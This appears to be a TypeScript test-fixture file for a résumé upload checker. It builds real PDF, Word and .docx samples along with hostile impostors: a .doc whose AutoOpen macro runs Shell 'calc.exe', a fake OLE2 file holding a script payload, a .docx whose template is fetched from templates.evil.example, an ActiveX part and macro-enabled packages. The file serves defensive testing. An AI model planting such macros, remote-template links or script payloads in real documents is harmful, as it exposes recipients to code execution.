// Small files made in the test for the résumé upload: a real one-page PDF, a real Word 97–2003 file
// (an OLE2 compound file written by `cfb`, with a WordDocument stream that starts like Word's and its
// table stream), a .docx package, and the impostors and attacks: an executable, an Excel compound
// file, a ZIP that is not Word, a 661-byte fake OLE2 naming WordDocument beside a script, a .doc with
// VBA macros (AutoOpen), .docx packages with macros, an external attachedTemplate or ActiveX, and PDFs
// with HTML, JavaScript, launch actions or attached files, some hidden the ways PDF allows.
import CFB from 'cfb';
import { strToU8, zipSync, zlibSync } from 'fflate';

const latin1 = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));
const concat = (parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));

/**
 * A PDF of the given objects (numbered from 1; object 1 is the catalogue) with its cross-reference
 * table and trailer. An object is a dictionary's text, or the parts of a stream object.
 */
export function pdfOf(
  objects: (string | Uint8Array[])[],
  options: { before?: string; afterHeader?: string; after?: string } = {},
): Uint8Array {
  const parts: Uint8Array[] = [latin1(`${options.before ?? ''}%PDF-1.7\n${options.afterHeader ?? ''}`)];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(length);
    const body = typeof o === 'string' ? [latin1(o)] : o;
    for (const part of [latin1(`${i + 1} 0 obj\n`), ...body, latin1('\nendobj\n')]) {
      parts.push(part);
      length += part.length;
    }
  });
  const xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  parts.push(
    latin1(
      `${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n${options.after ?? ''}`,
    ),
  );
  return concat(parts);
}

/** A one-page PDF: the catalogue (with `catalog` added), pages, a page with `text`, and its font. */
export function tinyPdf(
  text = 'Anjali Menon, Sales Associate',
  extra: {
    catalog?: string;
    objects?: (string | Uint8Array[])[];
    before?: string;
    afterHeader?: string;
    after?: string;
  } = {},
): Uint8Array {
  const stream = `BT /F1 18 Tf 72 720 Td (${text}) Tj ET`;
  return pdfOf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${extra.catalog ?? ''}>>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
      `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      ...(extra.objects ?? []),
    ],
    extra,
  );
}

/** An object stream (PDF 1.5) holding `objects`, Flate-compressed: what a scan of the plain file cannot see. */
export function objectStream(
  objects: string[],
  firstNumber: number,
  filter = '/FlateDecode',
  type = '/ObjStm',
): Uint8Array[] {
  let offset = 0;
  const index: string[] = [];
  for (const [i, o] of objects.entries()) {
    index.push(`${firstNumber + i} ${offset}`);
    offset += o.length + 1;
  }
  const head = `${index.join(' ')} `;
  const data = latin1(head + objects.map((o) => `${o} `).join(''));
  const packed = filter === '/FlateDecode' ? zlibSync(data) : data;
  return [
    latin1(
      `<< /Type ${type} /N ${objects.length} /First ${head.length} /Filter ${filter} /Length ${packed.length} >>\nstream\n`,
    ),
    packed,
    latin1('\nendstream'),
  ];
}

const OLE2_MAGIC = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];

/** The start of a Word 97–2003 WordDocument stream: the FIB's magic (0xA5EC) and its table stream bit (1Table). */
function wordDocumentStream(): Uint8Array {
  const fib = new Uint8Array(1472);
  fib.set([0xec, 0xa5, 0xc1, 0x00], 0);
  fib[0x0b] = 0x02;
  return fib;
}

/** A real compound file written by cfb, with the given streams (paths like /Macros/VBA/dir). */
export function compoundFileWith(streams: Record<string, Uint8Array>): Uint8Array {
  const container = CFB.utils.cfb_new();
  for (const [name, content] of Object.entries(streams)) CFB.utils.cfb_add(container, name, content);
  return new Uint8Array(CFB.write(container, { type: 'buffer' }) as Buffer);
}

export const tinyDoc = () =>
  compoundFileWith({ '/WordDocument': wordDocumentStream(), '/1Table': new Uint8Array(512) });
export const tinyXls = () => compoundFileWith({ '/Workbook': new Uint8Array(512) });
/** A .doc with a VBA project whose module runs on open (AutoOpen). */
export const macroDoc = () =>
  compoundFileWith({
    '/WordDocument': wordDocumentStream(),
    '/1Table': new Uint8Array(512),
    '/Macros/PROJECT': strToU8('ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n'),
    '/Macros/VBA/dir': new Uint8Array(64),
    '/Macros/VBA/ThisDocument': strToU8(
      'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n',
    ),
  });
/** A Word file whose directory names a WordDocument stream that is not Word's (no FIB magic). */
export const hollowDoc = () =>
  compoundFileWith({ '/WordDocument': strToU8('<script>alert(1)</script>'), '/1Table': new Uint8Array(512) });

/** The attack of issue 26: 661 bytes with the OLE2 magic, "WordDocument" in UTF-16 and a script. */
export function fakeOle2Word(): Uint8Array {
  const bytes = new Uint8Array(661);
  bytes.set(OLE2_MAGIC, 0);
  bytes.set([0x3e, 0x00, 0x03, 0x00, 0xfe, 0xff, 0x09, 0x00], 0x18);
  bytes.set(new Uint8Array(Buffer.from('WordDocument', 'utf16le')), 0x200);
  bytes.set(strToU8('<script>alert(document.domain)</script>'), 0x240);
  return bytes;
}

const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';

export function tinyDocx(extra: Record<string, string> = {}): Uint8Array {
  const files: Record<string, Uint8Array> = {
    '[Content_Types].xml': strToU8(CONTENT_TYPES),
    'word/document.xml': strToU8(
      '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Résumé</w:t></w:r></w:p></w:body></w:document>',
    ),
  };
  for (const [name, text] of Object.entries(extra)) files[name] = strToU8(text);
  return zipSync(files);
}

const RELS = (relations: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations}</Relationships>`;
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A .docx whose settings attach a template from the web (Word fetches it on open). */
export const externalTemplateDocx = (mode = 'TargetMode="External"') =>
  tinyDocx({
    'word/settings.xml': `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
    'word/_rels/settings.xml.rels': RELS(
      `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://templates.evil.example/cv.dotm" ${mode}/>`,
    ),
  });

/** A .docx with an ActiveX control part. */
export const activeXDocx = () =>
  tinyDocx({
    'word/activeX/activeX1.xml':
      '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
    'word/activeX/_rels/activeX1.xml.rels': RELS(
      `<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" Target="activeX1.bin"/>`,
    ),
    'word/activeX/activeX1.bin': 'binary control',
    'word/_rels/document.xml.rels': RELS(
      `<Relationship Id="rId9" Type="${REL}/control" Target="activeX/activeX1.xml"/>`,
    ),
  });

/** A .docx with the link to the applicant's profile that many résumés carry: accepted. */
export const linkedDocx = () =>
  tinyDocx({
    'word/_rels/document.xml.rels': RELS(
      `<Relationship Id="rId5" Type="${REL}/hyperlink" Target="https://www.linkedin.com/in/anjali-menon" TargetMode="External"/><Relationship Id="rId6" Type="${REL}/hyperlink" Target="mailto:anjali.menon@example.in" TargetMode="External"/><Relationship Id="rId1" Type="${REL}/styles" Target="styles.xml"/>`,
    ),
  });

/** A Word-looking package without its document part. */
export const hollowDocx = () =>
  zipSync({ '[Content_Types].xml': strToU8(CONTENT_TYPES), 'word/styles.xml': strToU8('<w:styles/>') });
export const plainZip = () => zipSync({ 'notes.txt': strToU8('not a résumé') });
export const macroDocx = () => tinyDocx({ 'word/vbaProject.bin': 'macro' });
/** A package whose main part is declared macro-enabled (a .docm renamed), without the project part. */
export const macroTypedDocx = () =>
  tinyDocx({
    '[Content_Types].xml': CONTENT_TYPES.replace(
      'wordprocessingml.document.main+xml',
      'wordprocessingml.document.main+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject',
    ),
  });

/** A Windows executable's header (MZ … PE). */
export function fakeExe(): Uint8Array {
  const bytes = new Uint8Array(1024);
  bytes.set([0x4d, 0x5a], 0);
  bytes.set([0x80, 0, 0, 0], 0x3c);
  bytes.set([0x50, 0x45, 0, 0], 0x80);
  return bytes;
}

/** A PDF padded to `size` bytes (a comment after %%EOF). */
export function pdfOfSize(size: number): Uint8Array {
  const pdf = tinyPdf();
  const out = new Uint8Array(size);
  out.set(pdf, 0);
  out.fill(0x20, pdf.length);
  return out;
}
